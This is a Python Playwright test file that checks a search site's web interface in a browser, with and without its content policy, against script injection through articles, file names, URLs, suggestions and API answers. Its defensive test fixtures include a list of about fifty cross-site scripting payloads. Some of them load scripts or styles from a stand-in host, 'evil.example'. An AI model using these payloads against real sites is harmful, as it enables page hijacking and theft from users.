"""Hostile text in a real browser: nothing of a document, an address or a query runs, whatever the policy."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, expect

import webui
from indexer import Article, FieldType, Published, open_index
from tests.fixtures.serving import serving

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=data:,alert(1)></script>",
    "<script src=//evil.example/x.js></script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</mark></a></q><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    '" onmouseover="alert(1)" style="position:fixed;inset:0',
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=javascript:alert(1)><button autofocus>x",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    "//evil.example/%0d%0aX:",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u202e<script>alert(1)</script>\u2066",
    "＜script＞alert(1)＜/script＞",
]


FIELDS = {"desk": FieldType("keyword", facet=True)}
# Run from outside the page: what no template writes.
STRANGE = """() => {
  const all = [...document.querySelectorAll('*')], places = ['href', 'src', 'action', 'formaction'];
  const odd = 'script:not([src]), style, [style], iframe, object, embed, base, svg script, meta[http-equiv]';
  const leads = (e, name) => e.hasAttribute(name)
    && !/^https?:$/.test(new URL(e.getAttribute(name), document.baseURI).protocol);
  return all.filter(e => e.matches(odd) || [...e.attributes].some(a => /^on/i.test(a.name))
    || places.some(name => leads(e, name))).map(e => e.outerHTML.slice(0, 200));
}"""


def hostile(number: int, text: str) -> Article:
    return Article(
        id=f"{number} {text.replace(chr(9), ' ')}",
        title=f"zebra {text}",
        paragraphs=(f"zebra {text}", text),
        published=Published("2021", "year", text, (("2020", text),), text),
        language="en",
        url=text,
        source=text,
        notes=(text,),
        authors=(text,),
        section=text,
        tags=(text,),
        publisher=text,
        page_numbers=(1, 2),
        fields={"desk": text},
    )


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A site with the payloads in every field of articles, and of files by their name and author."""
    folder = tmp_path_factory.mktemp("xss")
    files = folder / "files"
    files.mkdir()
    for number, text in enumerate(PAYLOADS):
        name = f"{number} {text}".replace("/", "∕").replace("\t", " ")[:80]
        attribute = text.replace("'", "")
        (files / f"{name}.html").write_text(
            f"<html><head><title>okapi {number}</title><meta name=author content='{attribute}'>"
            f"<link rel=canonical href='{attribute}'></head>"
            f"<body><article><h1>okapi {number}</h1><p>An okapi came by, and it was {number} years old.</p>"
            "</article></body></html>",
            encoding="utf-8",
        )
    with open_index(folder / "index", sources=[files], page_size=120, jobs=1, fields=FIELDS) as index:
        index.sync()
        index.put(hostile(number, text) for number, text in enumerate(PAYLOADS))
        with serving(webui.create_app(index)) as found:
            yield found


@pytest.fixture(scope="module", params=[True, False], ids=["with the policy", "without it"])
def is_obeyed(request: pytest.FixtureRequest) -> bool:
    """Whether the browser obeys the policy of a page. Escaping has to hold by itself, too."""
    return bool(request.param)


@pytest.fixture(scope="module")
def payloads(is_obeyed: bool) -> list[tuple[int, str]]:
    """Hostile texts with their numbers: all, or a ninth where the policy stops what would run without it."""
    return list(enumerate(PAYLOADS))[:: 9 if is_obeyed else 1]


@pytest.fixture(scope="module")
def context(browser: Browser, address: str, is_obeyed: bool) -> Iterator[BrowserContext]:
    found = browser.new_context(base_url=address, bypass_csp=not is_obeyed)
    yield found
    found.close()


@pytest.fixture
def tab(context: BrowserContext, address: str) -> Iterator[Page]:
    """A page that fails the test for a dialog, an error, a breach of the policy, a request to elsewhere."""
    complaints: list[str] = []

    def close(dialog: Dialog) -> None:
        complaints.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    page = context.new_page()
    page.on("dialog", close)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("console", lambda said: complaints.append(said.text) if "Policy" in said.text else None)
    page.on(
        "request",
        lambda sent: None if sent.url.startswith(address) else complaints.append(f"request to {sent.url}"),
    )
    yield page
    page.close()
    assert not complaints


def load(tab: Page, path: str) -> list[str]:
    """Load a page; its scripts, styles, frames and links that no template writes."""
    tab.goto(path, wait_until="load")
    strange: list[str] = tab.evaluate(STRANGE)
    return strange


def test_what_documents_say_does_not_run_among_the_results(tab: Page) -> None:
    for path in ("/?q=zebra", "/?q=okapi", "/?q=zebra&collapse=0&sort=title", "/?q=zebra&facet=source", "/"):
        assert load(tab, path) == []
    tab.goto("/?q=zebra&collapse=0")
    assert tab.locator(".hit").count() == len(PAYLOADS)


def test_what_documents_say_does_not_run_where_they_are_read(
    tab: Page, payloads: list[tuple[int, str]]
) -> None:
    for number, text in payloads:
        name = hostile(number, text).id
        assert load(tab, f"/a/?id={quote(name, safe='')}&q=zebra") == []
        assert tab.locator("article h1").count() == 1, name


def test_what_an_address_says_does_not_run(tab: Page, payloads: list[tuple[int, str]]) -> None:
    for number, text in payloads:
        said = quote(text, safe="")
        assert load(tab, f"/?q=zebra+{said}&source={said}&site={said}&facet={said}#{said}") == []
        assert load(tab, f"/?q=zebra&author={said}&tag={said}&filter=desk:%22{said}%22") == []
        assert load(tab, (f"/?q={said}&sort={said}", f"/?q={said}&since={said}")[number % 2]) == []
        assert load(tab, (f"/nowhere/{quote(text)}", f"/a/?id=nowhere{said}&q={said}")[number % 2]) == []


def test_what_is_suggested_does_not_run(tab: Page) -> None:
    tab.goto("/")
    for typed in ("zebr", "script", "alert", "img"):
        tab.locator("#q").fill(typed)
        expect(tab.locator("[role=option]").first).to_contain_text(typed)
        assert tab.evaluate(STRANGE) == [], typed
        tab.keyboard.press("ArrowDown")
    for said in ("zebrra", "scriptt alertt", "zebrra <script>alert(1)</script>"):
        assert load(tab, f"/?q={quote(said)}") == []
    assert load(tab, "/api/") == []


@pytest.mark.parametrize(
    "path", ["search?q=zebra", "search?q=zebra&format=atom", "suggest?q=zeb", "timeline?q=zebra"]
)
def test_answers_for_programs_do_not_run_when_they_are_looked_at(tab: Page, path: str) -> None:
    answer = tab.goto(
        f"/api/{path}&limit=50" if "timeline" not in path else f"/api/{path}", wait_until="load"
    )
    assert answer is not None
    assert answer.ok


def test_problems_do_not_run_when_they_are_looked_at(tab: Page, payloads: list[tuple[int, str]]) -> None:
    for _, text in payloads[::3]:
        said = quote(text, safe="")
        for path, status in ((f"search?q={said}&facet={said}", 400), (f"articles/?id={said}", 404)):
            answer = tab.goto(f"/api/{path}", wait_until="load")
            assert answer is not None
            assert answer.status == status
